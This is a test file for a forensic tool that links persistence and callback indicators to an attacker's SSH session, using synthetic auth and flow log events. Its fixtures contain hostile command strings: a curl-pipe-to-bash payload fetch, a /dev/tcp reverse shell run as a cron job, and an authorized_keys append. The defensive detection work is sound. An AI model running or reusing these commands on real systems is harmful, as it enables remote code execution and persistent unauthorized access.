/**
 * Host-side links after the attacker's session, on events written for them: back doors told once
 * (one crontab edit logged three ways, a group membership logged by usermod), units started by a
 * script run through sudo, the new job of a crontab the attacker edited, and the addresses the
 * attacker's commands name.
 */
import { afterEach, describe, expect, it } from 'vitest';
import { ROUND_LINKS } from '../../../src/correlate/links/index.js';
import { sshSessionLink } from '../../../src/correlate/links/ssh-session.js';
import type { LinkContext } from '../../../src/correlate/links/context.js';
import { entityKeys, linkContext } from '../../helpers/link-case.js';
import { MiniCase, type MiniEvent } from '../../helpers/mini-case.js';

let mini: MiniCase;
afterEach(() => mini?.close());

const login = (ts: string, host: string, user: string, ip: string, session: string): MiniEvent => ({ ts, class: 'authentication', action: 'ssh_login', outcome: 'success', host, actor: user, src_ip: ip, src_port: 50000, session });
const closed = (ts: string, host: string, user: string, session: string): MiniEvent => ({ ts, class: 'authentication', action: 'ssh_session_closed', outcome: 'success', host, actor: user, session });
const sudo = (ts: string, host: string, user: string, command: string, label?: string): MiniEvent => ({ ts, class: 'process_activity', action: 'sudo', outcome: 'success', host, actor: user, target: 'root', command, attrs: label ? { label } : null });
const cron = (ts: string, host: string, user: string, command: string, label?: string): MiniEvent => ({ ts, class: 'process_activity', action: 'cron_command', outcome: 'success', host, actor: user, command, attrs: label ? { label } : null });
const started = (ts: string, host: string, unit: string, label?: string): MiniEvent => ({ ts, class: 'system_activity', action: 'service_started', outcome: 'success', host, target: unit, attrs: label ? { label } : null });
const flow = (ts: string, src: string, dst: string, port: number, bytes: number, label?: string): MiniEvent => ({ ts, class: 'network_activity', action: 'flow', outcome: 'success', src_ip: src, dst_ip: dst, dst_port: port, bytes_out: bytes, attrs: label ? { label } : null });

async function runRounds(ctx: LinkContext, names: string[]): Promise<void> {
  for (let i = 0; i < 2; i++) for (const l of ROUND_LINKS.filter((x) => names.includes(x.name))) await l.run(ctx);
}

describe('back doors told once', () => {
  it('a crontab edit through sudo, its REPLACE and its END EDIT are one back door; usermod logging a membership to an admin group is one', async () => {
    mini = await MiniCase.create();
    await mini.file('auth_log', 'web/auth.log', [
      login('2026-05-02T03:00:00Z', 'web', 'dev', '198.51.100.7', 'sshd[2]'),
      sudo('2026-05-02T03:01:00Z', 'web', 'dev', '/usr/bin/crontab -u www-data -e'),
      { ts: '2026-05-02T03:02:00Z', class: 'account_change', action: 'crontab_replace', outcome: 'success', host: 'web', actor: 'root', target: 'crontab:www-data' },
      { ts: '2026-05-02T03:02:00Z', class: 'account_change', action: 'crontab_end_edit', outcome: 'success', host: 'web', actor: 'root', target: 'crontab:www-data' },
      sudo('2026-05-02T03:03:00Z', 'web', 'dev', '/bin/bash'),
      { ts: '2026-05-02T03:04:00Z', class: 'account_change', action: 'group_member_added', outcome: 'success', host: 'web', target: 'svc2', attrs: { group: 'wheel', shadow: false } },
      { ts: '2026-05-02T03:04:00Z', class: 'account_change', action: 'group_member_added', outcome: 'success', host: 'web', target: 'svc2', attrs: { group: 'wheel', shadow: true } },
      { ts: '2026-05-02T03:05:00Z', class: 'account_change', action: 'group_member_added', outcome: 'success', host: 'web', target: 'svc2', attrs: { group: 'audio', shadow: false } },
      closed('2026-05-02T03:30:00Z', 'web', 'dev', 'sshd[2]'),
    ]);
    const ctx = await linkContext(mini);
    await sshSessionLink.expand(ctx, ctx.fp.add('session', 'sshd[2]', 'web', null, 'test'));
    await runRounds(ctx, ['persistence']);
    expect(ctx.persistence.map((p) => `${p.kind} ${p.value}`)).toEqual(['cron crontab of www-data', 'admin_group svc2 in wheel']);
  });
});

describe('units started by the attacker', () => {
  it("a unit systemd starts right after the attacker's sudo, never started there before, is a back door; boot services and later starts are not", async () => {
    mini = await MiniCase.create();
    await mini.file('auth_log', 'etl/auth.log', [
      started('2026-05-01T00:00:10Z', 'etl', 'cron.service'),
      login('2026-05-02T03:00:00Z', 'etl', 'dev', '198.51.100.7', 'sshd[2]'),
      sudo('2026-05-02T03:10:00Z', 'etl', 'dev', '/bin/bash -c curl -fsSL http://192.0.2.77/ks.sh | bash'),
      started('2026-05-02T03:10:08Z', 'etl', 'dbus-kworker.service', 'implant'),
      started('2026-05-02T03:10:09Z', 'etl', 'cron.service', 'restart'),
      started('2026-05-02T05:00:00Z', 'etl', 'apt-daily.service', 'later'),
      closed('2026-05-02T03:30:00Z', 'etl', 'dev', 'sshd[2]'),
    ]);
    const ctx = await linkContext(mini);
    await sshSessionLink.expand(ctx, ctx.fp.add('session', 'sshd[2]', 'etl', null, 'test'));
    await runRounds(ctx, ['units_started']);
    expect(['implant', 'restart', 'later'].filter((l) => ctx.fp.events.has(mini.id(l)))).toEqual(['implant']);
    expect(ctx.persistence.map((p) => `${p.kind} ${p.value} ${p.actor}`)).toEqual(['systemd_unit dbus-kworker.service dev']);
  });
});

describe("the jobs of a crontab the attacker edited", () => {
  it("runs of a command the table's owner never ran before the edit are the attacker's job; the owner's own jobs are not", async () => {
    mini = await MiniCase.create();
    const shell = "/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.150/8443 0>&1'";
    await mini.file('auth_log', 'web/auth.log', [
      cron('2026-05-01T22:00:01Z', 'web', 'www-data', '/usr/bin/php /srv/app/cron.php', 'own-before'),
      login('2026-05-02T03:00:00Z', 'web', 'dev', '198.51.100.7', 'sshd[2]'),
      sudo('2026-05-02T03:01:00Z', 'web', 'dev', '/usr/bin/crontab -u www-data -e'),
      closed('2026-05-02T03:30:00Z', 'web', 'dev', 'sshd[2]'),
      cron('2026-05-02T04:00:01Z', 'web', 'www-data', shell, 'job-1'),
      cron('2026-05-02T04:00:01Z', 'web', 'www-data', '/usr/bin/php /srv/app/cron.php', 'own-after'),
      cron('2026-05-02T05:00:01Z', 'web', 'root', shell.replace('203.0.113.150', '203.0.113.151'), 'root-job'),
      cron('2026-05-03T04:00:01Z', 'web', 'www-data', shell, 'job-2'),
      cron('2026-05-06T04:00:01Z', 'web', 'www-data', '/usr/bin/php /srv/app/weekly.php', 'weekly-later'),
    ]);
    const ctx = await linkContext(mini);
    await sshSessionLink.expand(ctx, ctx.fp.add('session', 'sshd[2]', 'web', null, 'test'));
    await runRounds(ctx, ['persistence', 'cron_jobs', 'command_indicators']);
    expect(['own-before', 'job-1', 'own-after', 'root-job', 'job-2', 'weekly-later'].filter((l) => ctx.fp.events.has(mini.id(l)))).toEqual(['job-1', 'job-2']);
    // …and the address the job calls back to is the attacker's, found through the job's command
    expect(entityKeys(ctx.fp)).toContain('ip 203.0.113.150');
    expect(entityKeys(ctx.fp)).not.toContain('ip 203.0.113.151');
  });
});

describe('indicators inside the attacker commands', () => {
  it('an external address a command fetches from becomes the attacker\'s, with the command as evidence; internal and estate addresses do not', async () => {
    mini = await MiniCase.create();
    await mini.file('auth_log', 'etl/auth.log', [
      login('2026-05-02T03:00:00Z', 'etl', 'dev', '198.51.100.7', 'sshd[2]'),
      sudo('2026-05-02T03:10:00Z', 'etl', 'dev', '/bin/bash -c curl -fsSL http://192.0.2.77/ks.sh | bash', 'fetch'),
      sudo('2026-05-02T03:11:00Z', 'etl', 'dev', '/usr/bin/rsync -a /data backup@10.0.5.5:/srv/'),
      sudo('2026-05-02T03:12:00Z', 'etl', 'dev', '/usr/bin/ping -c1 198.51.100.99'),
      closed('2026-05-02T03:30:00Z', 'etl', 'dev', 'sshd[2]'),
      sudo('2026-05-02T09:00:00Z', 'etl', 'ops', '/usr/bin/curl http://203.0.113.200/health', 'owner'),
    ]);
    await mini.file('vpc_flow', 'flows.log', [flow('2026-05-02T03:10:01Z', '10.0.0.9', '192.0.2.77', 80, 900)]);
    const ctx = await linkContext(mini);
    await sshSessionLink.expand(ctx, ctx.fp.add('session', 'sshd[2]', 'etl', null, 'test'));
    await runRounds(ctx, ['command_indicators']);
    const ips = entityKeys(ctx.fp).filter((k) => k.startsWith('ip '));
    expect(ips).toEqual(['ip 192.0.2.77']);
    const ip = ctx.fp.get('ip', '192.0.2.77')!;
    expect([...ip.roles]).toEqual(['payload_host']);
    expect(ip.eventIds.has(mini.id('fetch'))).toBe(true);
  });
});

describe('keys planted without a logged write', () => {
  it("an attacker login with a key the account never used there before is a planted key; the account's own key and a key whose writing is logged are not", async () => {
    mini = await MiniCase.create();
    const keyLogin = (ts: string, user: string, ip: string, session: string, fp: string, label: string): MiniEvent => ({
      ...login(ts, 'jump', user, ip, session), attrs: { label, method: 'publickey', key_type: 'ED25519', key_fingerprint: fp },
    });
    await mini.file('auth_log', 'jump/auth.log', [
      keyLogin('2026-05-01T09:00:00Z', 'kn', '192.0.2.30', 'sshd[1]', 'SHA256:own', 'owner'),
      keyLogin('2026-05-02T03:00:00Z', 'kn', '198.51.100.7', 'sshd[2]', 'SHA256:own', 'stolen-own-key'),
      sudo('2026-05-02T03:05:00Z', 'jump', 'kn', '/usr/bin/tee -a /home/svc/.ssh/authorized_keys'),
      closed('2026-05-02T03:30:00Z', 'jump', 'kn', 'sshd[2]'),
      keyLogin('2026-05-03T03:00:00Z', 'kn', '198.51.100.7', 'sshd[3]', 'SHA256:planted', 'planted'),
      keyLogin('2026-05-03T04:00:00Z', 'svc', '198.51.100.7', 'sshd[4]', 'SHA256:written', 'written'),
    ]);
    const ctx = await linkContext(mini);
    for (const s of ['sshd[2]', 'sshd[3]', 'sshd[4]']) await sshSessionLink.expand(ctx, ctx.fp.add('session', s, 'jump', null, 'test'));
    await runRounds(ctx, ['planted_keys']);
    expect(ctx.persistence.map((p) => `${p.kind} ${p.value}`)).toEqual(["ssh_authorized_key ED25519 SHA256:planted in kn's authorized_keys"]);
  });
});
